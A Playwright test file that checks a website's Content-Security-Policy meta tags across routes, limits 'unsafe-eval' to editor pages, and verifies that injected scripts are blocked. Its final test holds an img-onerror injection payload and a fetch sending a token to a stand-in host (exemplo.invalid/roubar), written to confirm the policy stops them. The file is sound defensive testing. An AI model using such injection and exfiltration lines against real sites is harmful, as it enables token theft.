import { expect, test, type Page } from '@playwright/test'
import { allRoutes } from './site-helpers.ts'

/**
 * The Content-Security-Policy `<meta>` of every static HTML file (scripts/site/content-security-policy.ts, decision
 * 152), on the production build: no route breaks it, and a script injected into a page does not run.
 */
const ROUTES = [...allRoutes, '/editor', '/editor/website', '/painel', '/painel/titular', '/pagina-que-nao-existe']

async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = []
    Object.assign(window, { __violations: seen })
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`))
  })
}
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)

for (const route of ROUTES) {
  test(`${route}: the policy is in the HTML and nothing on the page violates it`, async ({ page }) => {
    await watchViolations(page)
    const response = await page.goto(route)
    expect(await response!.text()).toMatch(
      /^<!doctype html>[\s\S]*<head><meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'sha256-/i,
    )
    await expect(page.locator('h1').first()).toBeVisible({ timeout: 15_000 })
    await page.waitForLoadState('networkidle')
    expect(await violations(page)).toEqual([])
  })
}

test("'unsafe-eval' is allowed in the editor's pages only (decision 172)", async ({ request }) => {
  for (const route of ['/editor', '/editor/website', '/painel', '/', '/contato']) {
    const html = await (await request.get(route)).text()
    const policy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? ''
    expect(policy.includes("'unsafe-eval'"), route).toBe(route.startsWith('/editor'))
  }
})

test('a script injected into a page does not run, nor can it send anything elsewhere', async ({ page }) => {
  await watchViolations(page)
  await page.goto('/painel')
  await expect(page.getByRole('heading', { name: 'Painel da Excellis' })).toBeVisible()
  const ran = await page.evaluate(async () => {
    const host = document.createElement('div')
    host.innerHTML = '<img src="x" onerror="window.__ran = true">'
    document.body.append(host)
    const script = document.createElement('script')
    script.textContent = 'window.__ran = true'
    document.body.append(script)
    const sent = await fetch('https://exemplo.invalid/roubar?token=x').then(
      () => true,
      () => false,
    )
    await new Promise((r) => requestAnimationFrame(r))
    return { ran: 'ran' in window && (window as unknown as { __ran?: boolean }).__ran === true, sent }
  })
  expect(ran).toEqual({ ran: false, sent: false })
  await expect
    .poll(() => violations(page))
    .toEqual(expect.arrayContaining([expect.stringMatching(/^script-src/), expect.stringMatching(/^connect-src/)]))
})
